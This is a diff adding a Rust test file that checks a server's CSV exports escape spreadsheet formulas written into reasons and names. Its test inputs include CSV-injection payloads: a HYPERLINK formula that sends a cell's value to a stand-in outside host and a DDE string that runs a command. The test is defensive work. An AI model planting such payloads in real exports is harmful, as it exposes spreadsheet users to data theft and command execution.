@@ -1,0 +1,86 @@
+//! Files for a spreadsheet: whatever people wrote, no cell is a formula there.
+
+use model::api::Problem;
+use model::api::call::{GrantExtra, ProposeCorrection};
+use server::store::{Errand, Work};
+
+use crate::town::Town;
+
+/// As an import of the catalogue would.
+#[derive(Clone)]
+struct Rename(&'static str);
+
+impl Errand for Rename {
+    type Answer = ();
+
+    async fn run(self, work: &mut Work) -> Result<(), Problem> {
+        let mut service = work.catalogue().await?.services[&"sms".into()].clone();
+        self.0.clone_into(&mut service.name);
+        Ok(work.save_service(&service).await?)
+    }
+}
+
+/// How a formula begins, as a person could write it in a reason or a name.
+const FORMULAS: [&str; 11] = [
+    "=HYPERLINK(\"https://altrove.example.org/?\"&A1;\"Apri\")",
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(A1)",
+];
+
+/// The cells as a spreadsheet reads them, quotes taken off.
+fn cells(file: &str) -> Vec<String> {
+    let text = file.strip_prefix('\u{feff}').expect("a byte order mark");
+    let mut reader =
+        csv::ReaderBuilder::new().delimiter(b';').has_headers(false).from_reader(text.as_bytes());
+    let mut cells = Vec::new();
+    for row in reader.records() {
+        cells.extend(row.expect("a row").iter().map(str::to_owned));
+    }
+    cells
+}
+
+/// Every formula is there as text, and nothing else begins like one but whole numbers.
+fn assert_harmless(file: &str, written: &[&str]) {
+    let cells = cells(file);
+    for formula in written {
+        assert!(cells.contains(&format!("'{formula}")), "{formula:?} is told, as text: {cells:?}");
+    }
+    for cell in cells.iter().filter(|cell| cell.parse::<i64>().is_err()) {
+        let first = cell.chars().next();
+        let begins = first.is_some_and(|first| FORMULAS.iter().any(|formula| formula.starts_with(first)));
+        assert!(!begins, "{cell:?}");
+    }
+}
+
+#[tokio::test]
+async fn no_reason_becomes_a_formula_in_the_file_of_movements() {
+    let town = Town::found().await;
+    let (administrator, body) = (town.administrator(), town.body("Bellagio"));
+    for formula in FORMULAS {
+        let grant = GrantExtra { body, credits: 1, reason: formula.to_owned() };
+        administrator.call(grant).await.expect("granted");
+    }
+    let less = ProposeCorrection { body, credits: -1, reason: "Conteggio".to_owned() };
+    administrator.call(less).await.expect("corrected");
+    let file = town.officer("Bellagio").get(&format!("/api/v1/bodies/{body}/entries.csv")).await;
+    assert_eq!(file.header("content-disposition"), "attachment; filename=\"movimenti.csv\"");
+    assert_harmless(&file.body, &FORMULAS);
+    assert!(cells(&file.body).contains(&"-1".to_owned()), "a number stays one");
+}
+
+#[tokio::test]
+async fn no_name_becomes_a_formula_in_the_executive_project() {
+    let town = Town::found().await;
+    town.write(Rename("=1+1")).await.expect("renamed");
+    let file = town.observer().get("/api/v1/board/matrix.csv").await;
+    assert_eq!(file.status, 200);
+    assert_harmless(&file.body, &["=1+1"]);
+}
